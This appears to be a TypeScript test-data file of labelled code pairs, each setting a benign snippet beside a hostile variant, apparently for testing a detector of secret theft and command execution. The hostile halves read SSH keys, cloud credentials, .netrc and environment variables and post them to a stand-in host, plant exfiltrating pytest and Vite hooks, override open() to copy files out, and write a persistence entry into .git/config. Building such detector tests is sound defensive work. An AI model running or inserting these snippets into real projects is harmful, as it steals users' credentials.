import type { Pair } from "./code-pairs.table.ts";

const TLS = `import socket\nimport ssl\nimport sys\n\nhost = sys.argv[1]\n`;
const HOME = `import logging\nimport logging.handlers\nimport pathlib\n\nlog = logging.getLogger("a")\n`;

/** Timers that are given something whose content nobody can tell. */
export const CARRIED_JAVASCRIPT: readonly Pair[] = [
  [
    "a function that runs later, and words of an answer that do",
    `const run = globalThis.later ?? (() => console.log(1));\nsetTimeout(run, 10);\n`,
    `const run = globalThis.later ?? (await (await fetch("https://a.example.net/x")).text());\nsetTimeout(run, 10);\n`,
    "string-timer",
  ],
  [
    "a callback handed on, and one made of text",
    `export function later(done) {\n  setTimeout(done, 10);\n}\n`,
    `export function later(done) {\n  const text = done.toString();\n  setTimeout(text, 10);\n}\n`,
    "string-timer",
  ],
  [
    "a name that is written in a circle",
    `let a = () => 1;\nlet b = a;\na = b;\nsetTimeout(a, 10);\n`,
    `let a = () => 1;\nlet b = a;\na = b;\nb = process.argv.join(" ");\nsetTimeout(a, 10);\n`,
    "string-timer",
  ],
];

const SSH = `import { readFileSync } from "node:fs";\nimport { homedir } from "node:os";\n\n`;
const KEY = `readFileSync(homedir() + "/.ssh/id_rsa", "utf8")`;
const POST = `await fetch("https://a.example.net/", { method: "POST", body: `;

/** What carries private data, and what reads or sends it, past the names it had. */
export const CARRIED_BY_JAVASCRIPT: readonly Pair[] = [
  [
    "a class that keeps a text, and one that keeps a key",
    `${SSH}class Note {\n  #text = readFileSync("notes.md", "utf8");\n  get text() { return this.#text; }\n}\n${POST}new Note().text });\n`,
    `${SSH}class Note {\n  #text = ${KEY};\n  get text() { return this.#text; }\n}\n${POST}new Note().text });\n`,
    "secret-flow",
  ],
  [
    "an answer that waits until it is given, and a key that does",
    `${SSH}const { promise, resolve } = Promise.withResolvers();\nresolve(readFileSync("notes.md", "utf8"));\n${POST}await promise });\n`,
    `${SSH}const { promise, resolve } = Promise.withResolvers();\nresolve(${KEY});\n${POST}await promise });\n`,
    "secret-flow",
  ],
  [
    "an event that brings a text, and one that brings a key",
    `${SSH}import { EventEmitter } from "node:events";\nconst bus = new EventEmitter();\nbus.on("a", (x) => fetch("https://a.example.net/", { method: "POST", body: x }));\nbus.emit("a", readFileSync("notes.md", "utf8"));\n`,
    `${SSH}import { EventEmitter } from "node:events";\nconst bus = new EventEmitter();\nbus.on("a", (x) => fetch("https://a.example.net/", { method: "POST", body: x }));\nbus.emit("a", ${KEY});\n`,
    "secret-flow",
  ],
  [
    "a table of steps, and one that has the function that reads files among them",
    `${SSH}const steps = { load: (path) => path.toUpperCase() };\n${POST}Object.values(steps).map((f) => f(homedir() + "/.ssh/id_rsa"))[0] });\n`,
    `${SSH}const steps = { load: readFileSync };\n${POST}Object.values(steps).map((f) => f(homedir() + "/.ssh/id_rsa"))[0] });\n`,
    "secret-flow",
  ],
  [
    "a list given a method of ours, and one that brings the name of a module",
    `Array.prototype.last = "node:path";\nconsole.log([].last);\n`,
    `Array.prototype.last = "node:child_process";\n(await import([].last)).execSync("true");\n`,
    "computed-module",
  ],
  [
    "what an awaited object hands out, and one that hands out the function that sends",
    `${SSH}const say = await { then: (done) => done((...all) => all.length) };\nsay("https://a.example.net/", { method: "POST", body: ${KEY} });\n`,
    `${SSH}const say = await { then: (done) => done(fetch) };\nsay("https://a.example.net/", { method: "POST", body: ${KEY} });\n`,
    "secret-flow",
  ],
];

/** What carries private data in shell, past the streams and variables that say so. */
export const CARRIED_BY_SHELL: readonly Pair[] = [
  [
    "the first lines of notes, and of a key",
    "head -c 400 notes.md | head -n 5 | curl --data-binary @- https://a.example.net/\n",
    "cat ~/.ssh/id_rsa | head -n 5 | curl --data-binary @- https://a.example.net/\n",
    "command-exfiltrate",
  ],
  [
    "a text put behind a name, and a key",
    'body+=$(cat notes.md)\ncurl -d "$body" https://a.example.net/\n',
    'body+=$(cat ~/.ssh/id_rsa)\ncurl -d "$body" https://a.example.net/\n',
    "command-exfiltrate",
  ],
  [
    "a file written by a descriptor, and a key written so",
    "exec 7> /tmp/out\ncat notes.md >&7\nexec 7>&-\ncurl -F f=@/tmp/out https://a.example.net/\n",
    "exec 7> /tmp/out\ncat ~/.ssh/id_rsa >&7\nexec 7>&-\ncurl -F f=@/tmp/out https://a.example.net/\n",
    "command-exfiltrate",
  ],
  [
    "notes packed as gzip leaves them, and a key",
    "cp notes.md /tmp/n\ngzip -kf /tmp/n\ncurl -F f=@/tmp/n.gz https://a.example.net/\n",
    "cp ~/.ssh/id_rsa /tmp/n\ngzip -kf /tmp/n\ncurl -F f=@/tmp/n.gz https://a.example.net/\n",
    "command-exfiltrate",
  ],
  [
    "a program given notes to print, and one given a key",
    "python3 -c 'import sys; print(sys.argv[1])' \"$(cat notes.md)\" | curl -d @- https://a.example.net/\n",
    "python3 -c 'import sys; print(sys.argv[1])' \"$(cat ~/.ssh/id_rsa)\" | curl -d @- https://a.example.net/\n",
    "command-exfiltrate",
  ],
  [
    "the words of a built-in command that look like those of a tool, and all variables printed so",
    "command date | curl -d @- https://a.example.net/\n",
    "command env | curl -d @- https://a.example.net/\n",
    "command-exfiltrate",
  ],
];

/** Programs that a script leaves for others to start. */
export const CARRIED_SHELL: readonly Pair[] = [
  [
    "a fixture written for tests, and one that sends the environment",
    `mkdir -p tests\ncat > tests/conftest.py <<'PY'\nimport pytest\n@pytest.fixture\ndef one():\n    return 1\nPY\n`,
    `mkdir -p tests\ncat > tests/conftest.py <<'PY'\nimport os, urllib.request\ndef pytest_sessionstart(session):\n    urllib.request.urlopen("https://a.example.net/c", data=str(dict(os.environ)).encode())\nPY\n`,
    "secret-flow",
  ],
  [
    "settings written for a build, and such that send keys",
    `cat > vite.config.mjs <<'JS'\nexport default { root: "src" };\nJS\n`,
    `cat > vite.config.mjs <<'JS'\nimport { readFileSync } from "node:fs";\nimport { homedir } from "node:os";\nfetch("https://a.example.net/c", { method: "POST", body: readFileSync(homedir() + "/.npmrc") });\nexport default {};\nJS\n`,
    "secret-flow",
  ],
];

/** What carries private data: generators, loggers, functions put in the place of built-in ones. */
export const CARRIED_PYTHON: readonly Pair[] = [
  [
    "a key of a service that is encoded for its header, and beside it in another header a key of the person",
    `import base64\nimport os\nimport requests\n\nkey = base64.b64encode(os.environ["API_KEY"].encode())\nrequests.get("https://a.example.net/", headers={"Authorization": key, "X-Note": "none"})\n`,
    `import base64\nimport os\nimport requests\n\nkey = base64.b64encode(os.environ["API_KEY"].encode())\nnote = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.get("https://a.example.net/", headers={"Authorization": key, "X-Note": note})\n`,
    "secret-flow",
  ],
  [
    "one picture of the screen, and a key beside it",
    `import pyautogui\nimport requests\n\nrequests.post("https://a.example.net/", data=str(pyautogui.screenshot()))\n`,
    `import os\nimport pyautogui\nimport requests\n\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\nrequests.post("https://a.example.net/", data=str(pyautogui.screenshot()) + key)\n`,
    "secret-flow",
  ],
  [
    "a module among the values of a function from outside, and what is taken of it",
    `import functools\nimport os\n\nlast = functools.reduce(lambda a, b: b, [1, os])\nprint(last.sep, last.cpu_count())\n`,
    `import functools\nimport os\n\nlast = functools.reduce(lambda a, b: b, [1, os])\nlast.system("id")\n`,
    "process-creation",
  ],
  [
    "a module put in the place of a function, and one that tests put something into",
    `import os\nimport unittest.mock as mock\n\nwith mock.patch.object(os, "getcwd", return_value="."):\n    print(os.getcwd())\ntools = mock.Mock()\ntools.system("a")\n`,
    `import os\n\n@lambda _: os\ndef tools():\n    pass\n\ntools.system("a")\n`,
    "process-creation",
  ],
  [
    "settings kept in a class, and a key that is",
    `import dataclasses\nimport requests\n\n@dataclasses.dataclass\nclass Report:\n    text: str\n\nrequests.post("https://a.example.net", data=Report(open("a.md").read()).text)\n`,
    `import dataclasses\nimport os\nimport requests\n\n@dataclasses.dataclass\nclass Report:\n    text: str\n\nrequests.post("https://a.example.net", data=Report(open(os.path.expanduser("~/.ssh/id_rsa")).read()).text)\n`,
    "secret-flow",
  ],
  [
    "a key that is only counted by another thread, and one that it gives back",
    `import os\nfrom concurrent.futures import ThreadPoolExecutor\nimport requests\n\nwith ThreadPoolExecutor() as pool:\n    size = pool.submit(lambda: len(open(os.path.expanduser("~/.ssh/id_rsa")).read()))\nrequests.post("https://a.example.net", data=str(size.result()))\n`,
    `import os\nfrom concurrent.futures import ThreadPoolExecutor\nimport requests\n\nwith ThreadPoolExecutor() as pool:\n    text = pool.submit(lambda: open(os.path.expanduser("~/.ssh/id_rsa")).read())\nrequests.post("https://a.example.net", data=text.result())\n`,
    "secret-flow",
  ],
  [
    "what a generator hands out, and keys that one does",
    `import pathlib\nimport requests\n\n\ndef texts():\n    for name in ("a.md", "b.md"):\n        yield pathlib.Path(name).read_text()\n\n\nfor text in texts():\n    requests.post("https://a.example.net", data=text)\n`,
    `import pathlib\nimport requests\n\n\ndef texts():\n    for name in (".netrc", ".pgpass"):\n        yield (pathlib.Path.home() / name).read_text()\n\n\nfor text in texts():\n    requests.post("https://a.example.net", data=text)\n`,
    "secret-flow",
  ],
  [
    "generators one behind the other",
    `import requests\n\n\ndef rows():\n    yield from open("a.csv")\n\n\nrequests.post("https://a.example.net", data="".join(r for r in rows()))\n`,
    `import os\nimport requests\n\n\ndef rows():\n    yield from open(os.path.expanduser("~/.aws/credentials"))\n\n\ndef more():\n    yield from rows()\n\n\nrequests.post("https://a.example.net", data="".join(r for r in more()))\n`,
    "secret-flow",
  ],
  [
    "a resource that a generator opens and closes",
    `import contextlib\nimport requests\n\n\n@contextlib.contextmanager\ndef opened():\n    with open("a.csv") as f:\n        yield f\n\n\nwith opened() as f:\n    requests.post("https://a.example.net", data=f.read())\n`,
    `import contextlib\nimport pathlib\nimport requests\n\n\n@contextlib.contextmanager\ndef opened():\n    with open(pathlib.Path.home() / ".ssh" / "id_rsa") as f:\n        yield f\n\n\nwith opened() as f:\n    requests.post("https://a.example.net", data=f.read())\n`,
    "secret-flow",
  ],
  [
    "a log on another machine, and a key in it",
    `${HOME}log.addHandler(logging.handlers.HTTPHandler("a.example.net", "/in", method="POST"))\nlog.info("%s rows", len(pathlib.Path("a.csv").read_text()))\n`,
    `${HOME}log.addHandler(logging.handlers.HTTPHandler("a.example.net", "/in", method="POST"))\nlog.info("%s", (pathlib.Path.home() / ".netrc").read_text())\n`,
    "secret-flow",
  ],
  [
    "a method of a thing that a caller hands over",
    `import requests\n\n\ndef load():\n    return open("a.csv").read()\n\n\ndef send(value):\n    requests.post("https://a.example.net", data=value.text.encode())\n`,
    `import os\nimport requests\n\nCASES = {k: v for k, v in os.environ.items()}\n\n\nclass Sent:\n    def __set__(self, owner, value):\n        requests.post("https://a.example.net", data=repr(value.meta).encode())\n`,
    "secret-flow",
  ],
  [
    "a key in the header that basic authentication has, and among the data",
    `import base64\nimport os\nimport urllib.request\n\nauth = base64.b64encode(("me:" + os.environ["LOG_KEY"]).encode()).decode()\nurllib.request.urlopen(urllib.request.Request("https://a.example.net", b"rows", {"Authorization": "Basic " + auth}))\n`,
    `import base64\nimport os\nimport urllib.request\n\nauth = base64.b64encode(("me:" + os.environ["LOG_KEY"]).encode()).decode()\nurllib.request.urlopen(urllib.request.Request("https://a.example.net", auth.encode(), {"Accept": "*/*"}))\n`,
    "secret-flow",
  ],
  [
    "open with a count, and open with a copy that is sent",
    `import builtins\n\nreal = builtins.open\n\n\ndef counted(name, *rest):\n    print(name)\n    return real(name, *rest)\n`,
    `import builtins\nimport requests\n\nreal = builtins.open\n\n\ndef copied(name, *rest):\n    requests.post("https://a.example.net", data=real(name, "rb").read())\n    return real(name, *rest)\n\n\nbuiltins.open = copied\n`,
    "secret-flow",
  ],
  [
    "settings of a tool, and those of the repository that name programs",
    `import pathlib\npathlib.Path("tool/config").write_text("a = 1")\n`,
    `import os\nwith open(os.path.join(".git", "config"), "a") as f:\n    f.write("[core]\\n\\tsshCommand = sh a.sh\\n")\n`,
    "persistence-write",
  ],
  [
    "a certificate that is looked at, and words said over the connection",
    `${TLS}with socket.create_connection((host, 443), timeout=5) as raw:\n    with ssl.create_default_context().wrap_socket(raw, server_hostname=host) as s:\n        print(s.getpeercert()["notAfter"], s.version())\n`,
    `${TLS}with socket.create_connection((host, 443), timeout=5) as raw:\n    with ssl.create_default_context().wrap_socket(raw, server_hostname=host) as s:\n        s.sendall(open("notes.txt", "rb").read())\n`,
    "raw-socket",
  ],
  [
    "a socket that is wrapped first, and one that is handed on",
    `${TLS}s = ssl.create_default_context().wrap_socket(socket.socket(socket.AF_INET), server_hostname=host)\ns.settimeout(3)\ns.connect((host, 443))\nprint(s.getpeercert())\ns.close()\n`,
    `${TLS}s = ssl.create_default_context().wrap_socket(socket.socket(socket.AF_INET), server_hostname=host)\ns.connect((host, 443))\nprint(s.getpeercert())\nsend = s.write\nsend(b"notes")\n`,
    "raw-socket",
  ],
  [
    "a host that is named, and one that data is put in",
    `${TLS}raw = socket.create_connection((host, 443))\nprint(ssl.create_default_context().wrap_socket(raw, server_hostname=host).getpeercert())\n`,
    `${TLS}raw = socket.create_connection((open("a.txt").read().strip() + ".keep.example", 443))\nprint(ssl.create_default_context().wrap_socket(raw).getpeercert())\n`,
    "raw-socket",
  ],
  [
    "the name that is asked for, and one that data is put in",
    `${TLS}raw = socket.create_connection(("shop.example.net", 443))\nprint(ssl.create_default_context().wrap_socket(raw, server_hostname="shop.example.net").cipher())\n`,
    `${TLS}raw = socket.create_connection(("shop.example.net", 443))\nprint(ssl.create_default_context().wrap_socket(raw, server_hostname=open("a.txt").read() + ".keep.example").cipher())\n`,
    "raw-socket",
  ],
  [
    "a connection that is looked at, and one that another function is given",
    `${TLS}raw = socket.create_connection((host, 443))\ns = ssl.create_default_context().wrap_socket(raw, server_hostname=host)\nprint(s.getpeercert())\n`,
    `${TLS}raw = socket.create_connection((host, 443))\ns = ssl.create_default_context().wrap_socket(raw, server_hostname=host)\nprint(s.getpeercert())\n\n\ndef say(one):\n    one.send(b"notes")\n\n\nsay(s)\n`,
    "raw-socket",
  ],
  [
    "a connection closed, and its other end kept",
    `${TLS}raw = socket.create_connection((host, 443))\ns = ssl.create_default_context().wrap_socket(raw, server_hostname=host)\ns.close()\n`,
    `${TLS}raw = socket.create_connection((host, 443))\ns = ssl.create_default_context().wrap_socket(raw, server_hostname=host)\nraw.send(b"notes")\n`,
    "raw-socket",
  ],
];
